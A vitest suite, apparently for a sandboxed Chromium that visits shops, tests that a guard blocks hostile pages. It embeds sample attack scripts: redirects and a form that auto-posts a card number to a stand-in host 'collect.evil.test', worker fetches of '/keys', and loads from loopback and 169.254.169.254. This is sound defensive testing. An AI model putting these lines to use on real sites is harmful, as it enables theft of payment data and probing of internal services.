import { spawnSync } from 'node:child_process'
import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from 'puppeteer-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { ShopRequest } from '../../src/channels/browser/shopping-words.ts'
import {
  type BrowserWorld,
  chromiumUser,
  hasChromium,
  shopRequest,
  startBrowserWorld,
} from '../harness/browser.ts'
import { listeningSockets, processesOfChromium } from '../harness/chromium-processes.ts'

/** Judged by what the shops testify, which see what has reached them, and by what the visit is told. */
describe.skipIf(!hasChromium)('the guard over a visit', () => {
  let world: BrowserWorld
  beforeAll(async () => {
    world = await startBrowserWorld()
  })
  afterAll(() => world?.stop())

  const at = (shop: string): Partial<ShopRequest> => shopRequest(shop)
  async function attacks(): Promise<string[]> {
    const response = await fetch(`${world.sandbox.strangersUrl}/hostile/log`)
    const log = (await response.json()) as { kind: string; result: string }[] // by its documentation
    return log.filter(({ kind }) => kind === 'attack').map(({ result }) => result)
  }
  /** A request by the page's own script: what became of it. */
  const load = (page: Page, url: string) =>
    page.evaluate(
      (address) =>
        fetch(address, { mode: 'no-cors' }).then(
          () => 'answered',
          () => 'refused',
        ),
      url,
    )

  test('a shop of the sandbox is reached by its name, and by no other address', async () => {
    await world.visit(async ({ page, refusals }) => {
      await page.goto('https://classic.shop.test/product/kettle')
      expect(await page.title()).toBe('Gooseneck Kettle – Classic Kitchen')
      const port = world.sandbox.names.addresses['classic.shop.test']?.split(':')[1]
      const urls = [
        `https://classic.shop.test:${port}/`,
        `https://127.0.0.1:${port}/trap/image`,
        'https://127.0.0.1/',
        'https://[::1]/',
        'https://localhost/',
        'https://example.com/',
        'http://classic.shop.test/',
        'https://10.0.0.1/',
      ]
      for (const url of urls) expect([url, await load(page, url)]).toEqual([url, 'refused'])
      expect(refusals().length).toBeGreaterThanOrEqual(urls.length - 1)
    })
  })

  test('a page that leads to this machine, or loads from it, reaches nothing there', async () => {
    await world.visit(async ({ page, refusals }) => {
      await expect(page.goto('https://hostile.shop.test/product/redirects-to-loopback')).rejects.toThrow(
        'ERR_BLOCKED_BY_CLIENT',
      )
      await page.goto('https://hostile.shop.test/product/loopback-resources', { waitUntil: 'networkidle0' })
      expect(refusals()).toEqual([
        'navigation to 127.0.0.1',
        expect.stringMatching(/^request to /),
        ...refusals().slice(2),
      ])
      expect(new Set(refusals().slice(1))).toEqual(
        new Set(['request to 127.0.0.1', 'request to localhost', 'request to 169.254.169.254']),
      )
    }, at('hostile'))
    expect(await attacks()).toEqual([])
  })

  test.each([
    ['a link', `location.href = 'https://collect.evil.test/fields'`],
    [
      'a form',
      `document.body.innerHTML = '<form method=post action=https://collect.evil.test/checkout><input name=a value=4242424242424242></form>'; document.forms[0].submit()`,
    ],
    ['plain http', `location.href = 'http://classic.shop.test/'`],
    ['another port', `location.href = 'https://classic.shop.test:8443/'`],
  ])('%s does not take the page away from the shop', async (_, script) => {
    const before = await attacks()
    await world.visit(async ({ page, refusals }) => {
      await page.goto('https://hostile.shop.test/')
      await page.evaluate(`setTimeout(() => { ${script} })`)
      await expect
        .poll(() => refusals().join())
        .toMatch(/^navigation to (?:collect\.evil|classic\.shop)\.test$/)
      expect(new URL(page.url()).hostname).not.toBe('collect.evil.test')
    }, at('hostile'))
    expect(await attacks()).toEqual(before)
  })

  test('pages of payment and of a bank are not outside, and neither is a host that the operator has named', async () => {
    const site = { ...at('hosted'), site: 'https://tools.ucp.shop.test', moreHosts: ['collect.evil.test'] }
    await world.visit(async ({ page, refusals }) => {
      for (const host of ['page.pay.test', 'acs.bank.test', 'collect.evil.test'])
        expect((await page.goto(`https://${host}/`))?.url()).toBe(`https://${host}/`)
      expect(refusals()).toEqual([])
    }, site)
  })

  test('once hosts are closed, only those that were contacted before and banks are reached', async () => {
    await world.visit(async ({ page, closeHosts, refusals }) => {
      await page.goto('https://hostile.shop.test/')
      expect(await load(page, 'https://classic.shop.test/')).toBe('answered')
      closeHosts()
      expect(await load(page, 'https://collect.evil.test/keys')).toBe('refused')
      expect(await load(page, 'https://messy.shop.test/')).toBe('refused')
      expect(await load(page, 'https://classic.shop.test/?again')).toBe('answered')
      expect(await load(page, 'https://acs.bank.test/')).toBe('answered')
      expect(refusals()).toEqual(['connection to collect.evil.test:443', 'connection to messy.shop.test:443'])
    }, at('hostile'))
  })

  test('requests of workers go by way of the same proxy', async () => {
    await world.visit(async ({ page, closeHosts, refusals }) => {
      await page.goto('https://hostile.shop.test/')
      closeHosts()
      const said = await page.evaluate(`new Promise((resolve) => {
        const code = "fetch('https://collect.evil.test/keys', { mode: 'no-cors' }).then(() => postMessage('answered'), () => postMessage('refused'))"
        const worker = new Worker(URL.createObjectURL(new Blob([code])))
        worker.onmessage = ({ data }) => resolve(data)
        worker.onerror = () => resolve('no worker') })`)
      expect([said, refusals()]).toEqual(['refused', ['connection to collect.evil.test:443']])
    }, at('hostile'))
  })

  test('no windows but one of a payment frame, no downloads, and none of the powers that outlive a page', async () => {
    await world.visit(async ({ page, refusals }) => {
      await page.goto('https://app.shop.test/products/runner')
      await page.evaluate(`open('https://classic.shop.test/')`)
      await expect.poll(() => refusals()).toEqual(['popup'])
      await expect.poll(async () => (await page.browserContext().pages()).length).toBe(1)
      await page.evaluate(`(() => { const link = document.createElement('a'); link.download = 'x.bin'
        link.href = URL.createObjectURL(new Blob(['x'])); document.body.append(link); link.click() })()`)
      await expect.poll(() => refusals().length).toBe(2)
      expect(refusals()[1]).toMatch(/^download from /)
      const powers = await page.evaluate(`(async () => [
        'serviceWorker' in navigator, 'RTCPeerConnection' in window, 'SharedWorker' in window, 'mediaDevices' in navigator,
        (await navigator.permissions.query({ name: 'geolocation' })).state,
        (await navigator.permissions.query({ name: 'notifications' })).state,
      ])()`)
      expect(powers).toEqual([false, false, false, false, 'denied', 'denied'])
      await page.evaluate(`document.body.innerHTML = '<iframe src=https://fields.pay.test/></iframe>'`)
      const frame = await page.waitForFrame((one) => one.url() === 'https://fields.pay.test/')
      await frame.waitForSelector('body')
      for (let windows = 0; windows < 2; windows++)
        await frame.evaluate(`void open('https://acs.bank.test/')`)
      await expect.poll(() => refusals().length).toBe(3)
      await expect.poll(async () => (await page.browserContext().pages()).length).toBe(2)
    }, at('app'))
    const files = await readdir(join(world.folder, 'profiles'), { recursive: true })
    expect(files.filter((name) => name.endsWith('x.bin'))).toEqual([])
  })

  test('a page that opens one window after the other goes on, and none of them asks anybody for anything', async () => {
    const before = await attacks()
    await world.visit(async ({ page, refusals }) => {
      await page.goto('https://hostile.shop.test/')
      for (let windows = 0; windows < 100; windows++)
        await page.evaluate(`void open('https://collect.evil.test/agents/${windows}')`)
      // Many at once: some have begun before anything is heard of them.
      for (let round = 0; round < 3; round++) {
        await page.evaluate(
          `for (let i = 0; i < 20; i++) open('https://collect.evil.test/agents/at-once-${round}-' + i)`,
        )
        await page.evaluate(`for (let i = 0; i < 20; i++) { const link = document.createElement('a'); link.target = '_blank'
          link.rel = i % 2 ? 'noopener' : ''; link.href = 'https://collect.evil.test/agents/link-${round}-' + i; link.click() }`)
      }
      await expect.poll(() => refusals()).toEqual(['popup'])
      const line = await page.browser().target().createCDPSession()
      const own = page.browserContext().id
      await expect
        .poll(
          async () =>
            (await line.send('Target.getTargets')).targetInfos.filter(
              (one) => one.browserContextId === own && one.type === 'page',
            ).length,
        )
        .toBe(1)
    }, at('hostile'))
    expect(await attacks()).toEqual(before)
  })

  test('a visit makes 2,000 requests and no more', async () => {
    await world.visit(async ({ page, refusals }) => {
      await page.goto('https://classic.shop.test/product/kettle')
      const answered = await page.evaluate(`(async () => { let answered = 0
        for (let round = 0; round < 21; round++) await Promise.all(Array.from({ length: 100 }, () =>
          fetch('/robots.txt', { method: 'HEAD', cache: 'no-store' }).then(() => { answered += 1 }, () => {})))
        return answered })()`)
      expect(answered).toBeGreaterThan(1_900)
      expect(answered).toBeLessThan(2_000)
      expect(refusals()).toEqual(['more than 2000 requests'])
    })
  })

  test('Chromium listens on nothing, runs behind its own sandbox, and cannot ask at our door', async () => {
    await world.visit(async ({ page }) => {
      await page.goto('https://classic.shop.test/')
      const all = await processesOfChromium(join(world.folder, 'profiles'))
      expect(all.length).toBeGreaterThan(3)
      const own = new Set(all.flatMap(({ sockets }) => sockets))
      expect((await listeningSockets()).filter((inode) => own.has(inode))).toEqual([])
      const renderers = all.filter(({ args }) => args.includes('--type=renderer'))
      expect(renderers.length).toBeGreaterThan(0)
      if ((await world.browser.health()).sandbox === 'on')
        expect(renderers.map(({ seccomp }) => seccomp)).toEqual(renderers.map(() => '2'))
      if (chromiumUser === null) return
      expect(new Set(all.map(({ uid }) => uid))).toEqual(new Set([String(chromiumUser.uid)]))
      const knock = `require('node:net').connect(${JSON.stringify(join(world.doors, 'door'))}).once('connect', () => process.exit(0)).once('error', (error) => { console.log(error.code); process.exit(1) })`
      const { stdout } = spawnSync(process.execPath, ['-e', knock], { ...chromiumUser, cwd: '/', env: {} })
      expect(stdout.toString().trim()).toBe('EACCES')
    })
  })
})
